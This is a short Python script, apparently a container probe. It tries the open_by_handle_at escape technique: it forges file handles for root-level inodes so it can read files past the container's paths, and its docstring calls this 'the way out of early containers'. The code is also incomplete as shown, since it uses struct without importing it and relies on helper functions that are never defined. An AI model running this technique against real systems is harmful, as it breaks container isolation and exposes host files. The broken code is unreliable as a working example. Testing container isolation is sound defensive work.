"""Opens files by their number in the file system, past every path (the way out of early containers)."""

import ctypes
import os

for place in (b"/", b"/usr", b"/tmp", b"/etc/ld.so.cache"):
    handle = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0) + bytes(128))
    mount = ctypes.create_string_buffer(4)
    attempt(f"name of {place.decode()}", lambda: system_call("name_to_handle_at", -100, place, handle, mount, 0))
    folder = os.open(place, os.O_PATH)
    attempt(f"opening by {place.decode()}", lambda: system_call("open_by_handle_at", folder, handle, os.O_RDONLY))
    for inode in (2, 128):
        root = ctypes.create_string_buffer(struct.pack("=IiII", 8, 1, inode, 0))
        attempt(f"inode {inode}", lambda: system_call("open_by_handle_at", folder, root, os.O_RDONLY))
